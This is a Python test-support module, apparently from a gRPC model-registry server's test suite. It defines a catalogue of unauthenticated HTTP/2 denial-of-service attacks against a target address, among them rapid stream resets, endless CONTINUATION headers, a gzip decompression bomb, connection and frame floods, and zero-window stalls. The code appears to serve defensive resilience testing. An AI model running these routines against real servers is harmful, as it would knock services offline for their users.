"""Attacks of a client without a token; each is a program that takes the address of a server."""

import contextlib
import gzip
import time
from collections.abc import Callable, Iterable, Iterator, Mapping

from hyperframe import frame as frames

from tests.support.http2.connection import (
    PREFACE,
    ConnectionGoneError,
    Http2Connection,
    call_headers,
    message,
)

MIB = 1_024 * 1_024
MOST = 16 * MIB
RESOLVE = "modelregistry.v1.LookupService/ResolveVersion"
REGISTER = "modelregistry.v1.CatalogService/RegisterVersion"
WRITE = "modelregistry.v1.ArtifactService/WriteUpload"
WATCH = "modelregistry.v1.LookupService/Watch"
CHANGES = "modelregistry.v1.LookupService/ListChanges"
HEALTH_CHECK = "grpc.health.v1.Health/Check"
HEALTH_WATCH = "grpc.health.v1.Health/Watch"
REFLECTION = "grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
OPEN = (HEALTH_CHECK, HEALTH_WATCH, REFLECTION)
"""Methods that need no token."""
Attack = Callable[[str], None]
_SETTINGS_INITIAL_WINDOW = 4


def calm(target: str, token: str, calls: int = 1_000) -> None:
    """Call without a message: what as many calls cost when they are no attack."""
    with _connected(target) as connection:
        connection.wait([connection.open(CHANGES, token=token, end=True) for _ in range(calls)])


def large_messages(target: str, path: str = REGISTER) -> None:
    """Send messages of 16 MiB that would be eight million submessages, one after the other."""
    with _connected(target) as connection:
        for _ in range(4):
            stream = connection.open(path)
            connection.send_all(stream, message(b"\x1a\x00" * (MOST // 2)), end=True)
            connection.wait([stream])


def half_messages(
    target: str, path: str = REGISTER, *, streams: int = 40, seconds: float = 2
) -> None:
    """Send all of a message but its last byte, on many streams, and leave them so."""
    size = MOST - 1
    with _connected(target) as connection:
        left = {connection.open(path): size for _ in range(streams)}
        for stream in left:
            connection.send(stream, message(b"", MOST))
        until, piece = time.monotonic() + seconds, b"\0" * MIB
        while time.monotonic() < until:
            moved = 0
            for stream, rest in left.items():
                if not connection.answers[stream].over:
                    moved += (sent := connection.send(stream, piece[: min(MIB, rest)]))
                    left[stream] -= sent
            connection.pump(0 if moved else 0.02)


def half_message_connections(target: str, connections: int = 60) -> None:
    """Begin a message where no token is needed, on a connection of its own each."""
    with contextlib.ExitStack() as stack:
        made = [stack.enter_context(Http2Connection(target)) for _ in range(connections)]
        piece = b"\0" * MIB
        for connection in made:
            connection.pump(1)
            connection.send(connection.open(HEALTH_CHECK), message(b"", MOST))
        until = time.monotonic() + 2
        while time.monotonic() < until:
            for connection in made:
                connection.send(1, piece)
                connection.pump()


def full_windows(target: str, path: str = REGISTER, streams: int = 900) -> None:
    """Fill the window of many streams with the beginning of a message."""
    with _connected(target) as connection:
        opened = []
        for _ in range(streams):
            opened.append(stream := connection.open(path))
            connection.send(stream, message(b"\0" * (connection.stream_window - 5), MOST))
            connection.pump()
        connection.wait(opened)


def silent_streams(target: str, path: str = HEALTH_WATCH, streams: int = 200) -> None:
    """Open streams, and say nothing on them."""
    with _connected(target) as connection:
        connection.wait([connection.open(path) for _ in range(streams)], 3)


def lasting_streams(target: str, streams: int = 500) -> None:
    """Watch the health of the server for ever, many times."""
    with _connected(target) as connection:
        for _ in range(streams):
            stream = connection.open(HEALTH_WATCH)
            connection.send(stream, message(b""), end=True)
            connection.pump()
        connection.pump(1)


def silent_connections(target: str, connections: int = 200) -> None:
    """Connect, with and without the first words of HTTP/2, and say nothing more."""
    with contextlib.ExitStack() as stack:
        for number in range(connections):
            preface = PREFACE if number % 2 else b""
            stack.enter_context(Http2Connection(target, preface=preface))
        time.sleep(1)


def many_connections(target: str, connections: int = 2_000) -> None:
    """Open many connections with the first words of HTTP/2, and say nothing more."""
    with contextlib.ExitStack() as stack:
        for _ in range(connections):
            with contextlib.suppress(ConnectionGoneError):
                stack.enter_context(Http2Connection(target))
        time.sleep(3)


def many_calls(target: str, connections: int = 8, calls: int = 100) -> None:
    """Begin many calls at once, on several connections."""
    with contextlib.ExitStack() as stack:
        made = [stack.enter_context(Http2Connection(target)) for _ in range(connections)]
        streams = {each: [each.open(RESOLVE) for _ in range(calls)] for each in made}
        for connection, opened in streams.items():
            connection.wait(opened)


def silent_checks(target: str, connections: int = 300) -> None:
    """Ask for the health of the server, without the message, on a connection of its own each."""
    with contextlib.ExitStack() as stack:
        for _ in range(connections):
            connection = stack.enter_context(Http2Connection(target))
            connection.send(connection.open(HEALTH_CHECK), message(b"", MOST))
        time.sleep(2)


def compressed_messages(target: str) -> None:
    """Send 15 KiB that become 15 MiB, where no token is needed and where one is."""
    bomb = message(gzip.compress(b"\0" * 15 * MIB), compressed=True)
    with _connected(target) as connection:
        for path in (HEALTH_CHECK, REFLECTION, RESOLVE) * 5:
            stream = connection.open(path, encoding="gzip")
            connection.send_all(stream, bomb, end=True)
            connection.wait([stream], 3)


def much_metadata(target: str) -> None:
    """Send 14 KiB of metadata with each of many calls."""
    metadata = [(f"x-{number}", "y" * 200) for number in range(60)]
    with _connected(target) as connection:
        connection.wait([connection.open(REGISTER, metadata=metadata) for _ in range(200)])


def rapid_resets(target: str, streams: int = 2_000) -> None:
    """Begin calls and cancel each at once."""
    with _connected(target) as connection:
        for number in range(streams):
            connection.reset(connection.open(RESOLVE))
            if number % 100 == 0:
                connection.pump()
        connection.pump(0.5)


def many_frames(target: str, frame: frames.Frame, count: int = 50_000) -> None:
    """Send one frame again and again, and read nothing."""
    with _connected(target) as connection:
        many = frame.serialize() * 1_000
        for _ in range(count // 1_000):
            connection.send_bytes(many)
        connection.pump(1)


def endless_headers(target: str) -> None:
    """Begin headers that never end: 20 MiB of CONTINUATION frames."""
    with _connected(target) as connection:
        headers = frames.HeadersFrame(1, connection.encoded(call_headers(RESOLVE)))
        connection.send_frame(headers)
        piece = frames.ContinuationFrame(1, b"\x00\x01a" + b"\x7f\x81\x7f" + b"b" * 16_000)
        for _ in range(20 * MIB // 16_000):
            connection.send_frame(piece)
        connection.pump(1)


def closed_windows(target: str) -> None:
    """Let nothing be sent back: windows of 0, on many streams."""
    with (
        Http2Connection(target, settings={_SETTINGS_INITIAL_WINDOW: 0}, grants=False) as connection,
        contextlib.suppress(ConnectionGoneError),
    ):
        connection.pump(1)
        for path in (HEALTH_CHECK, HEALTH_WATCH, RESOLVE) * 50:
            stream = connection.open(path)
            connection.send(stream, message(b""), end=True)
        connection.pump(1)


def calls_left_at_once(target: str, connections: int = 5, calls: int = 150) -> None:
    """Begin many calls and hang up at once, one connection after the other."""
    for _ in range(connections):
        with contextlib.suppress(ConnectionGoneError), Http2Connection(target) as connection:
            connection.pump(0.05)
            for _ in range(calls):
                connection.send(connection.open(RESOLVE), message(b""), end=True)


def no_http2(target: str) -> None:
    """Say what is no HTTP/2."""
    for words in (
        b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"\x16\x03\x01" + b"\0" * 500,
        b"\xff" * MIB,
    ):
        connection = Http2Connection(target, preface=b"")
        with connection, contextlib.suppress(ConnectionGoneError):
            connection.send_bytes(words)
            connection.pump(1)


@contextlib.contextmanager
def _connected(target: str) -> Iterator[Http2Connection]:
    with Http2Connection(target) as connection:
        connection.pump(1)
        yield connection


def quietly(attack: Attack) -> Attack:
    """Return the attack so that it ends when the server hangs up."""

    def run(target: str) -> None:
        with contextlib.suppress(ConnectionGoneError):
            attack(target)

    return run


def _on(attack: Callable[..., None], paths: Iterable[str]) -> dict[str, Attack]:
    def on(path: str) -> Attack:
        return quietly(lambda target: attack(target, path))

    names = {path: path.rpartition(".")[2].replace("/", ".") for path in paths}
    return {f"{attack.__name__}:{name}": on(path) for path, name in names.items()}


def _frames(name: str, frame: frames.Frame) -> dict[str, Attack]:
    return {name: quietly(lambda target: many_frames(target, frame))}


ATTACKS: Mapping[str, Attack] = {
    **_on(large_messages, [REGISTER, WRITE, HEALTH_CHECK]),
    **_on(half_messages, [REGISTER, RESOLVE, WRITE, WATCH]),
    **_on(half_messages, OPEN),
    **_on(full_windows, [REGISTER]),
    **_on(silent_streams, [HEALTH_WATCH, REFLECTION, WATCH]),
    **{
        attack.__name__: quietly(attack)
        for attack in (
            half_message_connections,
            lasting_streams,
            silent_connections,
            many_connections,
            many_calls,
            silent_checks,
            compressed_messages,
            much_metadata,
            rapid_resets,
            endless_headers,
            closed_windows,
            calls_left_at_once,
            no_http2,
        )
    },
    **_frames("settings_flood", frames.SettingsFrame(settings={3: 100})),
    **_frames("ping_flood", frames.PingFrame(0, b"12345678")),
    **_frames("window_flood", frames.WindowUpdateFrame(0, window_increment=1)),
    **_frames("window_overflow", frames.WindowUpdateFrame(0, window_increment=2**31 - 1)),
}
"""By name. None of them needs a token; all end within seconds."""
